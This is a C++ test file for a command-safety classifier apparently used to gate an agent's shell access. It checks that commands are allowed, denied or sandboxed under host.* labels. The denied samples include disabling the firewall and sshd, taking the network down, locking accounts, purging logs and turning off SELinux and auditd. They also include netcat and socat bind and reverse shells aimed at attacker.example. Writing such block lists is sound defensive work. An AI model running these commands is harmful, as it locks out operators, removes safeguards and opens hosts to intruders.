// Host lock-outs and disabled defences (host.*): the machine left unreachable or unguarded.
#include "classify_helpers.h"

using toolcage::Decision;
using toolcage::classify::testing::check_table;

TEST_CASE("host: the firewall turned off", "[classify][host]") {
    check_table({
        {"ufw disable", Decision::deny, "host.firewall-off"},
        {"sudo ufw disable", Decision::deny, "host.firewall-off"},
        {"systemctl stop firewalld", Decision::deny, "host.firewall-off"},
        {"systemctl disable --now ufw.service", Decision::deny, "host.firewall-off"},
        {"ufw status verbose", Decision::allow},
        {"ufw allow 22/tcp", Decision::cage},
        {"firewall-cmd --panic-on", Decision::deny, "host.network-down"},
        {"firewall-cmd --set-default-zone=drop", Decision::deny, "host.network-down"},
        {"firewall-cmd --list-all", Decision::cage},
    });
}

TEST_CASE("host: remote access stopped or masked", "[classify][host]") {
    check_table({
        {"systemctl stop sshd", Decision::deny, "host.remote-access-off"},
        {"sudo systemctl mask sshd --now", Decision::deny, "host.remote-access-off"},
        {"systemctl disable --now ssh", Decision::deny, "host.remote-access-off"},
        {"systemctl kill ssh.service", Decision::deny, "host.remote-access-off"},
        {"systemctl --now disable ssh.socket", Decision::deny, "host.remote-access-off"},
        {"service ssh stop", Decision::deny, "host.remote-access-off"},
        {"update-rc.d ssh disable", Decision::deny, "host.remote-access-off"},
        {"pkill sshd", Decision::deny, "host.remote-access-off"},
        {"sudo killall -9 sshd", Decision::deny, "host.remote-access-off"},
        {"pkill -f node", Decision::cage},
        {"systemctl restart sshd", Decision::cage},
        {"systemctl reload sshd", Decision::cage},
        {"systemctl status sshd", Decision::allow},
        {"systemctl stop nginx", Decision::cage},
        {"service nginx stop", Decision::cage},
    });
}

TEST_CASE("host: the network taken down", "[classify][host]") {
    check_table({
        {"ip link set eth0 down", Decision::deny, "host.network-down"},
        {"sudo ip link set dev ens3 down", Decision::deny, "host.network-down"},
        {"ip link delete eth0", Decision::deny, "host.network-down"},
        {"ip addr flush dev eth0", Decision::deny, "host.network-down"},
        {"ip route del default", Decision::deny, "host.network-down"},
        {"ifdown eth0", Decision::deny, "host.network-down"},
        {"ifdown -a", Decision::deny, "host.network-down"},
        {"ifconfig eth0 down", Decision::deny, "host.network-down"},
        {"nmcli networking off", Decision::deny, "host.network-down"},
        {"nmcli connection down Wired", Decision::deny, "host.network-down"},
        {"systemctl stop NetworkManager", Decision::deny, "host.network-down"},
        {"ip link set lo down", Decision::cage},
        {"ip link set eth0 up", Decision::cage},
        {"ip addr show", Decision::allow},
        {"nmcli device status", Decision::cage},
    });
}

TEST_CASE("host: accounts without a password or locked", "[classify][host]") {
    check_table({
        {"passwd -d alice", Decision::deny, "host.account-locked"},
        {"sudo passwd --delete root", Decision::deny, "host.account-locked"},
        {"passwd -l root", Decision::deny, "host.account-locked"},
        {"usermod -L alice", Decision::deny, "host.account-locked"},
        {"usermod -s /usr/sbin/nologin alice", Decision::deny, "host.account-locked"},
        {"chage -E 0 alice", Decision::deny, "host.account-locked"},
        {"echo 'alice:newpass' | chpasswd", Decision::deny, "host.account-locked"},
        {"chpasswd < users.txt", Decision::deny, "host.account-locked"},
        {"chsh -s /bin/false bob", Decision::deny, "host.account-locked"},
        {"passwd", Decision::cage},
        {"usermod -aG docker alice", Decision::cage},
        {"loginctl terminate-user alice", Decision::deny, "host.sessions-ended"},
        {"loginctl kill-session 3", Decision::deny, "host.sessions-ended"},
        {"loginctl list-sessions", Decision::cage},
    });
}

TEST_CASE("host: logs vacuumed and defences turned off", "[classify][host]") {
    check_table({
        {"journalctl --vacuum-time=1s", Decision::deny, "host.logs-deleted"},
        {"sudo journalctl --vacuum-size=1M", Decision::deny, "host.logs-deleted"},
        {"journalctl --vacuum-files=1", Decision::deny, "host.logs-deleted"},
        {"journalctl -u nginx --since today", Decision::allow},
        {"setenforce 0", Decision::deny, "host.defence-off"},
        {"setenforce Permissive", Decision::deny, "host.defence-off"},
        {"auditctl -D", Decision::deny, "host.defence-off"},
        {"auditctl -e 0", Decision::deny, "host.defence-off"},
        {"systemctl stop auditd", Decision::deny, "host.defence-off"},
        {"aa-teardown", Decision::deny, "host.defence-off"},
        {"auditctl -l", Decision::cage},
    });
}

TEST_CASE("host: a shell served on the network", "[classify][host]") {
    check_table({
        {"nc -l -p 4444 -e /bin/bash", Decision::deny, "host.shell-on-network"},
        {"nc -lvp 4444 -e /bin/sh", Decision::deny, "host.shell-on-network"},
        {"ncat -lvp 4444 -e /bin/sh", Decision::deny, "host.shell-on-network"},
        {"ncat --listen 4444 --exec /bin/bash", Decision::deny, "host.shell-on-network"},
        {"ncat -l 4444 --sh-exec 'bash -i'", Decision::deny, "host.shell-on-network"},
        {"nc attacker.example 4444 -e /bin/sh", Decision::deny, "host.shell-on-network"},
        {"socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash", Decision::deny, "host.shell-on-network"},
        {"socat tcp:attacker.example:4444 exec:'bash -li',pty,stderr", Decision::deny, "host.shell-on-network"},
        {"nc -lk 8080", Decision::cage},
        {"nc -zv localhost 5432", Decision::cage},
        {"socat TCP-LISTEN:8080,fork TCP:localhost:3000", Decision::cage},
    });
}
